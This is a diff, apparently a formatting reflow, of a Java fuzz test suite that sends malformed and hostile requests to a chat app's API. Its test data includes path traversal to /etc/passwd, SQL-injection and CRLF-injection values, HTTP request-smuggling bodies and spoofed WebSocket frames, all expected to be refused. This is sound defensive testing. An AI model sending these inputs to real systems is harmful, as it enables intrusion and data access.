-				entry(1, structuralJunk().filter(b -> b.length() < 1_000_000).map(b -> jsonCall("avatar-preset", "PUT", "/api/users/me/avatar", token(), b))));
+				entry(1, structuralJunk().filter(b -> b.length() < 1_000_000)
+					.map(b -> jsonCall("avatar-preset", "PUT", "/api/users/me/avatar", token(), b))));
 	}
 
 	Gen<Hostile> avatarDownload() {
@@ -799,16 +863,21 @@ class FuzzEndToEndTests {
 
 	Gen<Hostile> createChat() {
 		Gen<String> body = Gen.oneOf(
-				objectWithAFault(new Field("members", Gen.just("[" + q(fx.third().username()) + "]"), invalidMembers(), true)),
-				// A name of the wrong type or hostile content, always with members that cannot exist.
-				pairs(invalidMembers(), Gen.oneOf(notAString(), hostileText().map(FuzzEndToEndTests::q), huge().map(FuzzEndToEndTests::q)))
+				objectWithAFault(
+						new Field("members", Gen.just("[" + q(fx.third().username()) + "]"), invalidMembers(), true)),
+				// A name of the wrong type or hostile content, always with members that
+				// cannot exist.
+				pairs(invalidMembers(),
+						Gen.oneOf(notAString(), hostileText().map(FuzzEndToEndTests::q),
+								huge().map(FuzzEndToEndTests::q)))
 					.map(t -> "{\"members\":" + t.first() + ",\"name\":" + t.second() + "}"),
 				structuralJunk());
 		return body.map(b -> jsonCall("create-chat", "POST", "/api/chats", token(), b));
 	}
 
 	Gen<Hostile> listChats() {
-		return badAuthorization().map(h -> new Hostile("list-chats", "GET", "/api/chats", h, null, false, Strictness.STRICT));
+		return badAuthorization()
+			.map(h -> new Hostile("list-chats", "GET", "/api/chats", h, null, false, Strictness.STRICT));
 	}
 
 	Gen<Hostile> readChat() {
@@ -817,9 +886,9 @@ class FuzzEndToEndTests {
 	}
 
 	Gen<Hostile> addMembers() {
-		Gen<Hostile> own = pairs(ownChat(), Gen.oneOf(
-				objectWithAFault(new Field("members", Gen.just("[]"), invalidMembers(), true)),
-				structuralJunk()))
+		Gen<Hostile> own = pairs(ownChat(),
+				Gen.oneOf(objectWithAFault(new Field("members", Gen.just("[]"), invalidMembers(), true)),
+						structuralJunk()))
 			.map(t -> jsonCall("add-members", "POST", "/api/chats/" + t.first() + "/members", token(), t.second()));
 		Gen<Hostile> foreign = foreignOrJunkId().map(id -> jsonCall("add-members", "POST",
 				"/api/chats/" + id + "/members", token(), "{\"members\":[" + q(fx.fuzzer().username()) + "]}"));
@@ -832,24 +901,24 @@ class FuzzEndToEndTests {
 	}
 
 	Gen<Hostile> markRead() {
-		Gen<Hostile> own = pairs(ownChat(), Gen.oneOf(
-				notANumber().map(v -> "{\"seq\":" + v + "}"), Gen.of("{\"seq\":null}", "{}", "{\"seq\":-1,\"seq\":\"x\"}"),
-				structuralJunk()))
+		Gen<Hostile> own = pairs(ownChat(),
+				Gen.oneOf(notANumber().map(v -> "{\"seq\":" + v + "}"),
+						Gen.of("{\"seq\":null}", "{}", "{\"seq\":-1,\"seq\":\"x\"}"), structuralJunk()))
 			.map(t -> jsonCall("mark-read", "POST", "/api/chats/" + t.first() + "/read", token(), t.second()));
-		Gen<Hostile> foreign = foreignOrJunkId().map(id -> jsonCall("mark-read", "POST", "/api/chats/" + id + "/read",
-				token(), "{\"seq\":1}"));
+		Gen<Hostile> foreign = foreignOrJunkId()
+			.map(id -> jsonCall("mark-read", "POST", "/api/chats/" + id + "/read", token(), "{\"seq\":1}"));
 		return Gen.oneOf(own, foreign);
 	}
 
 	Gen<Hostile> sendMessage() {
-		Gen<String> invalidText = Gen.oneOf(
-				Gen.of("", " ", "   \n\t  ", "x".repeat(4001), " ".repeat(10) + "y".repeat(4001)).map(FuzzEndToEndTests::q),
-				huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"));
+		Gen<String> invalidText = Gen
+			.oneOf(Gen.of("", " ", "   \n\t  ", "x".repeat(4001), " ".repeat(10) + "y".repeat(4001))
+				.map(FuzzEndToEndTests::q), huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"));
 		Gen<String> invalidClientId = Gen.oneOf(Gen.of("\"\"", "null"), notAString());
-		Gen<Hostile> own = pairs(ownChat(), Gen.oneOf(objectWithAFault(
-				new Field("text", Gen.just(q("fuzz should never land")), invalidText, true),
-				new Field("clientMessageId", random -> q(UUID.randomUUID().toString()), invalidClientId, true)),
-				structuralJunk()))
+		Gen<Hostile> own = pairs(ownChat(),
+				Gen.oneOf(objectWithAFault(new Field("text", Gen.just(q("fuzz should never land")), invalidText, true),
+						new Field("clientMessageId", random -> q(UUID.randomUUID().toString()), invalidClientId, true)),
+						structuralJunk()))
 			.map(t -> jsonCall("send-message", "POST", "/api/chats/" + t.first() + "/messages", token(), t.second()));
 		Gen<Hostile> foreign = foreignOrJunkId().map(id -> jsonCall("send-message", "POST",
 				"/api/chats/" + id + "/messages", token(),
@@ -859,26 +928,24 @@ class FuzzEndToEndTests {
 
 	Gen<Hostile> history() {
 		// Not "", " 1" or "0x10": Spring binds those to null, 1 and 16, which are valid.
-		Gen<String> badNumber = Gen.of("-1", "-100", "abc", "1.5", "99999999999999999999", "1e3", "%00",
-				"NaN", "1%3BDROP", "-9223372036854775809", "9223372036854775808", "%E2%80%AE", "[1]", "1,2");
+		Gen<String> badNumber = Gen.of("-1", "-100", "abc", "1.5", "99999999999999999999", "1e3", "%00", "NaN",
+				"1%3BDROP", "-9223372036854775809", "9223372036854775808", "%E2%80%AE", "[1]", "1,2");
 		Gen<String> query = Gen.oneOf(badNumber.map(n -> "beforeSeq=" + n), badNumber.map(n -> "afterSeq=" + n),
 				Gen.of("-1", "-50", "201", "100000", "abc", "1.5", "99999999999999999999").map(n -> "limit=" + n),
 				pairs(badNumber, badNumber).map(t -> "beforeSeq=" + t.first() + "&limit=" + t.second()));
-		Gen<Hostile> own = pairs(ownChat(), query)
-			.map(t -> new Hostile("history", "GET", "/api/chats/" + t.first() + "/messages?" + t.second(), auth(token()), null,
-					false, Strictness.STRICT));
+		Gen<Hostile> own = pairs(ownChat(), query).map(t -> new Hostile("history", "GET",
+				"/api/chats/" + t.first() + "/messages?" + t.second(), auth(token()), null, false, Strictness.STRICT));
 		Gen<Hostile> foreign = foreignOrJunkId().map(id -> new Hostile("history", "GET",
 				"/api/chats/" + id + "/messages?limit=50", auth(token()), null, false, Strictness.STRICT));
 		return Gen.oneOf(own, own, foreign);
 	}
 
 	Gen<Hostile> deleteMessage() {
-		Gen<Hostile> notMine = Gen.of(fx.peerMessageIds()).flatMap(id -> ownChat()
-			.map(chat -> new Hostile("delete-message", "DELETE", "/api/chats/" + chat + "/messages/" + id, auth(token()),
-					null, false, Strictness.STRICT)));
-		Gen<Hostile> junk = pairs(ownChat(), foreignOrJunkId())
-			.map(t -> new Hostile("delete-message", "DELETE", "/api/chats/" + t.first() + "/messages/" + t.second(),
-					auth(token()), null, false, Strictness.STRICT));
+		Gen<Hostile> notMine = Gen.of(fx.peerMessageIds())
+			.flatMap(id -> ownChat().map(chat -> new Hostile("delete-message", "DELETE",
+					"/api/chats/" + chat + "/messages/" + id, auth(token()), null, false, Strictness.STRICT)));
+		Gen<Hostile> junk = pairs(ownChat(), foreignOrJunkId()).map(t -> new Hostile("delete-message", "DELETE",
+				"/api/chats/" + t.first() + "/messages/" + t.second(), auth(token()), null, false, Strictness.STRICT));
 		Gen<Hostile> foreign = Gen.of(fx.foreignMessageIds())
 			.map(id -> new Hostile("delete-message", "DELETE", "/api/chats/" + fx.foreign() + "/messages/" + id,
 					auth(token()), null, false, Strictness.STRICT));
@@ -889,11 +956,11 @@ class FuzzEndToEndTests {
 	}
 
 	Gen<Hostile> export() {
-		Gen<Hostile> own = pairs(ownChat(), Gen.of("format=xml", "format=pdf",
-				"format=json%00", "format=..%2F..%2Fetc%2Fpasswd", "format=" + "j".repeat(3000), "format=csv",
-				"format=txt%0d%0aX-Injected:1"))
-			.map(t -> new Hostile("export", "GET", "/api/chats/" + t.first() + "/export?" + t.second(), auth(token()), null,
-					false, Strictness.STRICT));
+		Gen<Hostile> own = pairs(ownChat(),
+				Gen.of("format=xml", "format=pdf", "format=json%00", "format=..%2F..%2Fetc%2Fpasswd",
+						"format=" + "j".repeat(3000), "format=csv", "format=txt%0d%0aX-Injected:1"))
+			.map(t -> new Hostile("export", "GET", "/api/chats/" + t.first() + "/export?" + t.second(), auth(token()),
+					null, false, Strictness.STRICT));
 		Gen<Hostile> foreign = foreignOrJunkId().map(id -> new Hostile("export", "GET",
 				"/api/chats/" + id + "/export?format=json", auth(token()), null, false, Strictness.STRICT));
 		return Gen.oneOf(own, foreign);
@@ -901,56 +968,59 @@ class FuzzEndToEndTests {
 
 	Gen<Hostile> webSocketOverHttp() {
 		// A plain request to the WebSocket endpoint, or an upgrade it must refuse.
-		return Gen.of(
-				new Hostile("ws-http", "GET", "/api/ws", auth(token()), null, false, Strictness.STRICT),
-				new Hostile("ws-http", "POST", "/api/ws", json(token()), utf8("{\"type\":\"auth\"}"), false, Strictness.STRICT),
+		return Gen.of(new Hostile("ws-http", "GET", "/api/ws", auth(token()), null, false, Strictness.STRICT),
+				new Hostile("ws-http", "POST", "/api/ws", json(token()), utf8("{\"type\":\"auth\"}"), false,
+						Strictness.STRICT),
 				new Hostile("ws-http", "GET", "/api/ws", List.<String[]>of(new String[] { "Upgrade", "websocket" },
 						new String[] { "Connection", "Upgrade" }, new String[] { "Sec-WebSocket-Version", "99" },
 						new String[] { "Sec-WebSocket-Key", "not base64" }), null, true, Strictness.STRICT),
-				new Hostile("ws-http", "GET", "/api/ws", List.<String[]>of(new String[] { "Upgrade", "h2c" },
-						new String[] { "Connection", "Upgrade" }), null, true, Strictness.STRICT));
-		// A valid upgrade with a bad token is accepted and then closed with 4401: the WebSocket property covers it.
+				new Hostile("ws-http", "GET", "/api/ws",
+						List.<String[]>of(new String[] { "Upgrade", "h2c" }, new String[] { "Connection", "Upgrade" }),
+						null, true, Strictness.STRICT));
+		// A valid upgrade with a bad token is accepted and then closed with 4401: the
+		// WebSocket property covers it.
 	}
 
 	Gen<Hostile> wrongMethods() {
 		String chat = "/api/chats/" + fx.direct();
-		return Gen.of(
-				new String[] { "DELETE", "/api/users/me" }, new String[] { "POST", "/api/users/me" },
-				new String[] { "PUT", "/api/chats" }, new String[] { "PATCH", "/api/chats" },
-				new String[] { "DELETE", "/api/chats" }, new String[] { "PATCH", chat },
-				new String[] { "PUT", chat + "/messages" }, new String[] { "DELETE", chat + "/messages" },
-				new String[] { "PATCH", chat + "/messages/" + fx.fuzzerMessageIds().getFirst() },
-				new String[] { "PUT", chat + "/read" }, new String[] { "GET", chat + "/read" },
-				new String[] { "GET", "/api/auth/login" }, new String[] { "PUT", "/api/auth/signup" },
-				new String[] { "DELETE", "/api/users/" + fx.fuzzer().id() + "/avatar" },
-				new String[] { "POST", "/api/users/lookup?q=x" }, new String[] { "TRACE", "/api/users/me" },
-				new String[] { "FOO", "/api/chats" }, new String[] { "POST", chat + "/export?format=json" },
-				new String[] { "GET", "/api/users/me/password" })
-			.map(mt -> new Hostile("wrong-method", mt[0], mt[1], json(token()), mt[0].equals("GET") || mt[0].equals("TRACE") ? null : utf8("{}"),
-					mt[0].equals("TRACE"), Strictness.STRICT));
+		return Gen
+			.of(new String[] { "DELETE", "/api/users/me" }, new String[] { "POST", "/api/users/me" },
+					new String[] { "PUT", "/api/chats" }, new String[] { "PATCH", "/api/chats" },
+					new String[] { "DELETE", "/api/chats" }, new String[] { "PATCH", chat },
+					new String[] { "PUT", chat + "/messages" }, new String[] { "DELETE", chat + "/messages" },
+					new String[] { "PATCH", chat + "/messages/" + fx.fuzzerMessageIds().getFirst() },
+					new String[] { "PUT", chat + "/read" }, new String[] { "GET", chat + "/read" },
+					new String[] { "GET", "/api/auth/login" }, new String[] { "PUT", "/api/auth/signup" },
+					new String[] { "DELETE", "/api/users/" + fx.fuzzer().id() + "/avatar" },
+					new String[] { "POST", "/api/users/lookup?q=x" }, new String[] { "TRACE", "/api/users/me" },
+					new String[] { "FOO", "/api/chats" }, new String[] { "POST", chat + "/export?format=json" },
+					new String[] { "GET", "/api/users/me/password" })
+			.map(mt -> new Hostile("wrong-method", mt[0], mt[1], json(token()),
+					mt[0].equals("GET") || mt[0].equals("TRACE") ? null : utf8("{}"), mt[0].equals("TRACE"),
+					Strictness.STRICT));
 	}
 
 	Gen<Hostile> unknownPaths() {
-		return Gen.of("/api", "/api/", "/api/nope", "/api/chats/" + fx.direct() + "/nope", "/api/users",
-				"/api/users/me/nope", "/api/auth", "/api/auth/nope", "/internal/sessions/current",
-				"/internal/users/online?ids=" + fx.fuzzer().id(), "/internal/users/lookup?q=" + fx.peer().username(),
-				"/api/internal/sessions/current",
-				"/api/chats/" + fx.direct() + "/messages/" + fx.fuzzerMessageIds().getFirst() + "/nope",
-				"/api/%2e%2e/internal/sessions/current", "/api/chats%2f" + fx.foreign())
+		return Gen
+			.of("/api", "/api/", "/api/nope", "/api/chats/" + fx.direct() + "/nope", "/api/users", "/api/users/me/nope",
+					"/api/auth", "/api/auth/nope", "/internal/sessions/current",
+					"/internal/users/online?ids=" + fx.fuzzer().id(),
+					"/internal/users/lookup?q=" + fx.peer().username(), "/api/internal/sessions/current",
+					"/api/chats/" + fx.direct() + "/messages/" + fx.fuzzerMessageIds().getFirst() + "/nope",
+					"/api/%2e%2e/internal/sessions/current", "/api/chats%2f" + fx.foreign())
 			.map(path -> new Hostile("unknown-path", "GET", path, auth(token()), null, false, Strictness.STRICT));
 	}
 
 	/** Authorization headers that must not authenticate anyone. */
 	Gen<List<String[]>> badAuthorization() {
 		String token = token();
-		Gen<List<String[]>> single = Gen.oneOf(
-				Gen.of("Bearer", "Bearer ", "Basic dXNlcjpwYXNzd29yZA==", "Bearer " + token + "x",
-						"Bearer " + token.substring(1), "Bearer " + token.substring(0, token.length() - 1),
-						"Bearer null", "Bearer undefined", "Bearer ' OR 1=1 --", "Bearer *", "Bearer ../../",
-						"Token " + token, token, "Bearer " + token.toUpperCase().replace("BEARER", ""),
-						"Bearer " + "A".repeat(4_000), "Bearer %00", "Bearer " + token + " " + token,
-						"Bearer " + UUID.randomUUID(), "Negotiate " + token),
-				Gen.strings('0', 'f', 64, 64).map(s -> "Bearer " + s))
+		Gen<List<String[]>> single = Gen
+			.oneOf(Gen.of("Bearer", "Bearer ", "Basic dXNlcjpwYXNzd29yZA==", "Bearer " + token + "x",
+					"Bearer " + token.substring(1), "Bearer " + token.substring(0, token.length() - 1), "Bearer null",
+					"Bearer undefined", "Bearer ' OR 1=1 --", "Bearer *", "Bearer ../../", "Token " + token, token,
+					"Bearer " + token.toUpperCase().replace("BEARER", ""), "Bearer " + "A".repeat(4_000), "Bearer %00",
+					"Bearer " + token + " " + token, "Bearer " + UUID.randomUUID(), "Negotiate " + token),
+					Gen.strings('0', 'f', 64, 64).map(s -> "Bearer " + s))
 			.filter(value -> !value.equals("Bearer " + token))
 			.map(value -> {
 				List<String[]> headers = new ArrayList<>();
@@ -967,10 +1037,12 @@ class FuzzEndToEndTests {
 
 	Gen<Hostile> badTokens() {
 		String chat = "/api/chats/" + fx.direct();
-		// Every authenticated call, with a valid body, but no valid token: 401 and nothing done.
+		// Every authenticated call, with a valid body, but no valid token: 401 and
+		// nothing done.
 		Gen<String[]> call = Gen.of(new String[] { "GET", "/api/users/me", null },
 				new String[] { "PATCH", "/api/users/me", "{\"username\":\"fz_stolen_name\"}" },
-				new String[] { "PUT", "/api/users/me/password", "{\"currentPassword\":" + q(TestUser.PASSWORD) + ",\"newPassword\":\"stolen password\"}" },
+				new String[] { "PUT", "/api/users/me/password",
+						"{\"currentPassword\":" + q(TestUser.PASSWORD) + ",\"newPassword\":\"stolen password\"}" },
 				new String[] { "PUT", "/api/users/me/avatar", "{\"preset\":\"cat\"}" },
 				new String[] { "GET", "/api/users/lookup?q=" + fx.peer().username(), null },
 				new String[] { "POST", "/api/chats", "{\"members\":[" + q(fx.third().username()) + "]}" },
@@ -981,14 +1053,15 @@ class FuzzEndToEndTests {
 				new String[] { "POST", chat + "/messages", "{\"text\":\"stolen\",\"clientMessageId\":\"x1\"}" },
 				new String[] { "GET", chat + "/messages", null },
 				new String[] { "DELETE", chat + "/messages/" + fx.fuzzerMessageIds().getFirst(), null },
-				new String[] { "GET", chat + "/export?format=json", null }, new String[] { "POST", "/api/auth/logout", null });
+				new String[] { "GET", chat + "/export?format=json", null },
+				new String[] { "POST", "/api/auth/logout", null });
 		return pairs(call, badAuthorization()).map(t -> {
 			List<String[]> headers = new ArrayList<>(t.second());
 			if (t.first()[2] != null) {
 				headers.add(new String[] { "Content-Type", "application/json" });
 			}
-			return new Hostile("bad-token", t.first()[0], t.first()[1], headers, t.first()[2] == null ? null : utf8(t.first()[2]),
-					false, Strictness.STRICT);
+			return new Hostile("bad-token", t.first()[0], t.first()[1], headers,
+					t.first()[2] == null ? null : utf8(t.first()[2]), false, Strictness.STRICT);
 		});
 	}
 
@@ -999,12 +1072,15 @@ class FuzzEndToEndTests {
 				new String[] { "POST", chat + "/read", "{\"seq\":3}" },
 				new String[] { "PATCH", "/api/users/me", "{\"username\":\"fz_ct_name\"}" },
 				new String[] { "POST", "/api/chats", "{\"members\":[" + q(fx.third().username()) + "]}" },
-				new String[] { "POST", "/api/auth/signup", "{\"username\":\"fz_ct_user\",\"email\":\"fz_ct@example.test\",\"password\":\"long enough\"}" },
-				new String[] { "PUT", "/api/users/me/password", "{\"currentPassword\":\"x\",\"newPassword\":\"stolen password\"}" },
-				new String[] { "POST", "/api/chats/" + fx.group() + "/members", "{\"members\":[" + q(fx.victim().username()) + "]}" });
+				new String[] { "POST", "/api/auth/signup",
+						"{\"username\":\"fz_ct_user\",\"email\":\"fz_ct@example.test\",\"password\":\"long enough\"}" },
+				new String[] { "PUT", "/api/users/me/password",
+						"{\"currentPassword\":\"x\",\"newPassword\":\"stolen password\"}" },
+				new String[] { "POST", "/api/chats/" + fx.group() + "/members",
+						"{\"members\":[" + q(fx.victim().username()) + "]}" });
 		Gen<String> type = Gen.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
-				"multipart/form-data; boundary=x", "application/json;charset=no-such-charset", "application/octet-stream",
-				"text/html", "*/*", "application", "");
+				"multipart/form-data; boundary=x", "application/json;charset=no-such-charset",
+				"application/octet-stream", "text/html", "*/*", "application", "");
 		return pairs(call, type).map(t -> {
 			List<String[]> headers = auth(token());
 			if (!t.second().isEmpty()) {
@@ -1020,11 +1096,15 @@ class FuzzEndToEndTests {
 		String token = token();
 		String chat = "/api/chats/" + fx.direct();
 		List<String[]> bearer = auth(token);
-		// raw-uri: not a URI at all (RFC 3986); WebFlux refuses those before any application code runs.
+		// raw-uri: not a URI at all (RFC 3986); WebFlux refuses those before any
+		// application code runs.
 		List<Hostile> cases = List.of(
-				new Hostile("raw-path", "GET", "/api/chats/../../internal/users/online?ids=" + fx.fuzzer().id(), bearer, null, true, Strictness.STRICT),
-				new Hostile("raw-path", "GET", "/api/users/../../internal/sessions/current", bearer, null, true, Strictness.STRICT),
-				new Hostile("raw-path", "GET", "/api/chats/" + fx.foreign() + "/../" + fx.foreign() + "/messages", bearer, null, true, Strictness.STRICT),
+				new Hostile("raw-path", "GET", "/api/chats/../../internal/users/online?ids=" + fx.fuzzer().id(), bearer,
+						null, true, Strictness.STRICT),
+				new Hostile("raw-path", "GET", "/api/users/../../internal/sessions/current", bearer, null, true,
+						Strictness.STRICT),
+				new Hostile("raw-path", "GET", "/api/chats/" + fx.foreign() + "/../" + fx.foreign() + "/messages",
+						bearer, null, true, Strictness.STRICT),
 				new Hostile("raw-uri", "GET", "/api/chats/%ZZ", bearer, null, true, Strictness.PROTOCOL),
 				new Hostile("raw-uri", "GET", "/api/chats/%", bearer, null, true, Strictness.PROTOCOL),
 				new Hostile("raw-uri", "GET", "/api/users/lookup?q=%ZZ", bearer, null, true, Strictness.PROTOCOL),
@@ -1032,26 +1112,49 @@ class FuzzEndToEndTests {
 				new Hostile("raw-uri", "GET", "/api/chats/\u00e9\u00e8", bearer, null, true, Strictness.PROTOCOL),
 				new Hostile("raw-uri", "GET", "/api/chats/{chatId}", bearer, null, true, Strictness.PROTOCOL),
 				new Hostile("raw-uri", "GET", "/api/chats/<script>", bearer, null, true, Strictness.PROTOCOL),
-				new Hostile("raw-path", "GET", "http://127.0.0.1:8081/internal/users/online?ids=" + fx.fuzzer().id(), bearer, null, true, Strictness.STRICT),
+				new Hostile("raw-path", "GET", "http://127.0.0.1:8081/internal/users/online?ids=" + fx.fuzzer().id(),
+						bearer, null, true, Strictness.STRICT),
 				new Hostile("raw-path", "GET", "//evil.example/api/users/me", bearer, null, true, Strictness.STRICT),
 				new Hostile("raw-protocol", "GET", "/api/chats/a b", bearer, null, true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "GET", "/api/users/me", List.<String[]>of(new String[] { "Authorization", "Bearer " + token + "\u0001" }), null, true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "GET", "/api/users/me", List.<String[]>of(new String[] { "Authorization", "Bearer " + token }, new String[] { "X-Junk", "a".repeat(70_000) }), null, true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "GET", "/api/users/lookup?q=" + "z".repeat(20_000), bearer, null, true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "GET", "/api/users/me", List.<String[]>of(new String[] { "Authorization", "Bearer nope\r\n continued" }), null, true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "GET", "/api/users/me", List.<String[]>of(new String[] { "Bad Header", "x" }, new String[] { "Authorization", "Bearer nope" }), null, true, Strictness.PROTOCOL),
-				// Smuggling: both lengths, and a chunked body that lies; the body itself is invalid anyway.
-				new Hostile("raw-protocol", "POST", chat + "/messages", List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
-						new String[] { "Content-Type", "application/json" }, new String[] { "Content-Length", "4" },
-						new String[] { "Transfer-Encoding", "chunked" }), utf8("2\r\n{}\r\n0\r\n\r\nGET /api/users/me HTTP/1.1\r\nHost: x\r\n\r\n"), true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "POST", chat + "/messages", List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
-						new String[] { "Content-Type", "application/json" }, new String[] { "Transfer-Encoding", "chunked" }),
+				new Hostile("raw-protocol", "GET", "/api/users/me",
+						List.<String[]>of(new String[] { "Authorization", "Bearer " + token + "\u0001" }), null, true,
+						Strictness.PROTOCOL),
+				new Hostile("raw-protocol", "GET", "/api/users/me",
+						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
+								new String[] { "X-Junk", "a".repeat(70_000) }),
+						null, true, Strictness.PROTOCOL),
+				new Hostile("raw-protocol", "GET", "/api/users/lookup?q=" + "z".repeat(20_000), bearer, null, true,
+						Strictness.PROTOCOL),
+				new Hostile("raw-protocol", "GET", "/api/users/me",
+						List.<String[]>of(new String[] { "Authorization", "Bearer nope\r\n continued" }), null, true,
+						Strictness.PROTOCOL),
+				new Hostile("raw-protocol", "GET", "/api/users/me",
+						List.<String[]>of(new String[] { "Bad Header", "x" },
+								new String[] { "Authorization", "Bearer nope" }),
+						null, true, Strictness.PROTOCOL),
+				// Smuggling: both lengths, and a chunked body that lies; the body itself
+				// is invalid anyway.
+				new Hostile("raw-protocol", "POST", chat + "/messages",
+						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
+								new String[] { "Content-Type", "application/json" },
+								new String[] { "Content-Length", "4" },
+								new String[] { "Transfer-Encoding", "chunked" }),
+						utf8("2\r\n{}\r\n0\r\n\r\nGET /api/users/me HTTP/1.1\r\nHost: x\r\n\r\n"), true,
+						Strictness.PROTOCOL),
+				new Hostile("raw-protocol", "POST", chat + "/messages",
+						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
+								new String[] { "Content-Type", "application/json" },
+								new String[] { "Transfer-Encoding", "chunked" }),
 						utf8("zz\r\n{}\r\n0\r\n\r\n"), true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "POST", chat + "/messages", List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
-						new String[] { "Content-Type", "application/json" }, new String[] { "Content-Length", "100" }),
+				new Hostile("raw-protocol", "POST", chat + "/messages",
+						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
+								new String[] { "Content-Type", "application/json" },
+								new String[] { "Content-Length", "100" }),
 						utf8("{\"text\":"), true, Strictness.PROTOCOL),
-				new Hostile("raw-protocol", "POST", chat + "/messages", List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
-						new String[] { "Content-Type", "application/json" }, new String[] { "Content-Length", "-1" }),
+				new Hostile("raw-protocol", "POST", chat + "/messages",
+						List.<String[]>of(new String[] { "Authorization", "Bearer " + token },
+								new String[] { "Content-Type", "application/json" },
+								new String[] { "Content-Length", "-1" }),
 						utf8("{}"), true, Strictness.PROTOCOL));
 		return Gen.of(cases);
 	}
@@ -1060,17 +1163,21 @@ class FuzzEndToEndTests {
 
 	Gen<List<String>> webSocketFrames() {
 		String foreign = fx.foreign();
-		Gen<String> frame = Gen.frequencyOf(entry(10, 
-				Gen.of("", "not json", "{", "[]", "null", "42", "\"typing\"", "{\"type\":null}", "{\"type\":42}",
-						"{\"type\":\"unknown\"}", "{\"type\":\"TYPING\",\"chatId\":\"" + foreign + "\"}",
-						"{\"type\":\"typing\"}", "{\"type\":\"typing\",\"chatId\":null}", "{\"type\":\"typing\",\"chatId\":42}",
-						"{\"type\":\"typing\",\"chatId\":[\"" + foreign + "\"]}", "{\"type\":\"typing\",\"chatId\":\"" + foreign + "\"}",
+		Gen<String> frame = Gen.frequencyOf(
+				entry(10, Gen.of("", "not json", "{", "[]", "null", "42", "\"typing\"", "{\"type\":null}",
+						"{\"type\":42}", "{\"type\":\"unknown\"}",
+						"{\"type\":\"TYPING\",\"chatId\":\"" + foreign + "\"}", "{\"type\":\"typing\"}",
+						"{\"type\":\"typing\",\"chatId\":null}", "{\"type\":\"typing\",\"chatId\":42}",
+						"{\"type\":\"typing\",\"chatId\":[\"" + foreign + "\"]}",
+						"{\"type\":\"typing\",\"chatId\":\"" + foreign + "\"}",
 						"{\"type\":\"typing\",\"chatId\":\"" + foreign + "\",\"type\":\"typing\"}",
 						"{\"type\":\"typing\",\"chatId\":\"" + UUID.randomUUID() + "\"}",
 						"{\"type\":\"typing\",\"chatId\":\"../" + foreign + "\"}",
-						"{\"type\":\"typing\",\"chatId\":\"" + foreign + "\",\"userId\":\"" + fx.victimFriend().id() + "\"}",
+						"{\"type\":\"typing\",\"chatId\":\""
+								+ foreign + "\",\"userId\":\"" + fx.victimFriend().id() + "\"}",
 						"{\"type\":\"auth\",\"token\":\"nope\"}", "{\"type\":\"auth\",\"token\":42}",
-						"{\"type\":\"message.created\",\"message\":{\"chatId\":\"" + foreign + "\",\"text\":\"spoof\"}}",
+						"{\"type\":\"message.created\",\"message\":{\"chatId\":\"" + foreign
+								+ "\",\"text\":\"spoof\"}}",
 						"{\"type\":\"read\",\"chatId\":\"" + foreign + "\",\"seq\":99}", "\u0000\u0001", "\uFEFF{}",
 						deep(50_000, "[", "]"), "{\"type\":\"typing\",\"chatId\":\"" + "x".repeat(100_000) + "\"}")),
 				entry(1, Gen.integers(70_000, 1_100_000).map(n -> "{\"type\":\"" + "t".repeat(n) + "\"}")),
@@ -1098,7 +1205,10 @@ class FuzzEndToEndTests {
 			return listener;
 		}
 
-		/** Authenticated in the handshake ({@code bearer.<token>} subprotocol), as the web app is. */
+		/**
+		 * Authenticated in the handshake ({@code bearer.<token>} subprotocol), as the web
+		 * app is.
+		 */
 		static JunkSocket authenticated(String token) {
 			JunkSocket listener = new JunkSocket();
 			listener.socket = EventSocket.openWithToken(EventSocket.GATEWAY_WS, token, listener);
@@ -1111,7 +1221,8 @@ class FuzzEndToEndTests {
 				socket.sendText(text, true).get(10, TimeUnit.SECONDS);
 			}
 			catch (Exception ex) {
-				// The server closed the socket, possibly mid-frame; the close code tells why. Its close
+				// The server closed the socket, possibly mid-frame; the close code tells
+				// why. Its close
 				// frame can trail the failed write by a few seconds on a loaded machine.
 				awaitClose(Duration.ofSeconds(5));
 				if (!closed.isDone()) {
